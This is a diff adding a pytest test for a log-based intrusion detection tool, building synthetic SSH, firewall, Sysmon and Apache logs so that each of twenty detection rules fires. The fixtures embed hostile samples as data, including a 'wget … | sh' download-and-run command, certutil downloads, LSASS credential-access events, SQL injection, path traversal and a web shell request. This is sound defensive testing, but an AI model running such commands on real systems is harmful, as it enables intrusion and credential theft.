@@ -193,3 +193,35 @@ def test_correlation_facts(spark):
     assert groups({"at": 0, "host": "A"}, {"at": 60, "host": "A", "user": "amy"}, {"at": 120, "user": "amy", "host": "C"}) == [1, 1, 1]
     scores = spark.createDataFrame([(s,) for s in (0, 34, 35, 59, 60, 79, 80, 100)], "s int").select(C.priority(F.col("s"))).collect()
     assert [r[0] for r in scores] == ["P4", "P4", "P3", "P3", "P2", "P2", "P1", "P1"]
+
+
+def test_every_bundled_rule_fires(spark):
+    """Logs of our own in which each of the twenty rules has its case, and look-alikes that none of them meets."""
+    from functools import reduce
+
+    from pyspark.sql import DataFrame
+
+    from wardlight.plans.detector import Detector
+    from wardlight.plans.rules import load_rules
+
+    t = lambda s: START + timedelta(seconds=s)
+    auth = [f"{t(2 * i):%b} {t(2 * i).day} {t(2 * i):%H:%M:%S} gate sshd[1]: Failed password for u{i % 6} from 203.0.113.9 port 22 ssh2" for i in range(12)]
+    auth += [f"{t(40):%b} {t(40).day} {t(40):%H:%M:%S} gate sshd[1]: Accepted password for u1 from 203.0.113.9 port 22 ssh2", f"{t(50):%b} {t(50).day} {t(50):%H:%M:%S} gate sudo: u1 : TTY=a ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c wget http://x/y | sh", f"{t(60):%b} {t(60).day} {t(60):%H:%M:%S} gate sudo: u1 : TTY=a ; PWD=/ ; USER=root ; COMMAND=/bin/ls"]
+    fw = lambda s, a, src, dst, port, size=1: f"{t(s):%Y-%m-%d %H:%M:%S} {a} TCP {src}:1 -> {dst}:{port} BYTES={size}"
+    firewall = [fw(i, "DENY", "198.51.100.3", "10.0.0.1", 100 + i) for i in range(20)] + [fw(i, "ALLOW", "10.0.0.7", f"10.0.1.{i}", 445) for i in range(9)] + [fw(i, "ALLOW", "10.0.0.8", "8.8.4.4", 443, 60_000_000) for i in range(2)] + [fw(5, "ALLOW", "10.0.0.9", "10.0.0.10", 443, 900_000_000)]
+    sys = lambda s, i, rest: f"{t(s):%Y-%m-%d %H:%M:%S}.000 UTC;EventID {i};x;Computer=desk;User=CORP\\amy;{rest}"
+    run = {
+        "IDT-SG-001": r"Image=C:\w\pwsh.exe;CommandLine=pwsh -W Hidden", "IDT-SG-002": r"ParentImage=C:\o\excel.exe;Image=C:\w\mshta.exe", "IDT-SG-003": r"Image=C:\w\certutil.exe;CommandLine=certutil -urlcache -f x", "IDT-SG-005": r"Image=C:\t\PsExec.exe", "IDT-SG-006": "Image=x;CommandLine=cmd whoami /groups",
+        "IDT-SG-007": r"Image=C:\w\schtasks.exe;CommandLine=schtasks /Create /tn a", "none": r"Image=C:\w\schtasks.exe;CommandLine=schtasks /query",
+    }
+    sysmon = [sys(100 + 10 * i, 1, x) for i, x in enumerate(run.values())] + [sys(300, 10, r"SourceImage=C:\t\d.exe;TargetImage=C:\w\lsass.exe;GrantedAccess=0x1410"), sys(310, 10, r"SourceImage=C:\t\d.exe;TargetImage=C:\w\lsass.exe;GrantedAccess=0x1000"), sys(320, 22, "QueryName=a.click"), sys(330, 22, "QueryName=a.example")]
+    sysmon += [sys(400 + 60 * i, 3, "DestinationIp=2606:4700:4700::1111;DestinationPort=443") for i in range(10)] + [sys(400 + 60 * i, 3, "DestinationIp=fd00::9;DestinationPort=443") for i in range(10)]
+    web = [f'198.51.100.4 - - [{t(i):%d/%b/%Y:%H:%M:%S} +0000] "GET /m{i} HTTP/1.1" 404 1' for i in range(30)]
+    web += [f'198.51.100.{5 + i} - - [{t(i):%d/%b/%Y:%H:%M:%S} +0000] "GET {u} HTTP/1.1" 200 1' for i, u in enumerate(("/a?q=1%20union%20select%20x", "/a?f=..%2f..%2fx", "/uploads/s.php", "/fine?x=1"))]
+    parts = [lines_of(spark, s, *x, now=NOW) for s, x in (("auth", auth), ("firewall", firewall), ("sysmon", sysmon), ("apache", web))]
+    rows = reduce(DataFrame.unionByName, parts)
+    assert rows.where("not ok").count() == 0
+    single, stateful = load_rules()
+    alerts = Detector(single, stateful).run(logs.events_of(rows)).select("rule_id", "dst_ip").collect()
+    assert {a["rule_id"] for a in alerts} == {r.id for r in [*single, *stateful]} and len(alerts) == 20
+    assert {a["dst_ip"] for a in alerts if a["rule_id"] == "IDT-006"} == {"2606:4700:4700::1111"}
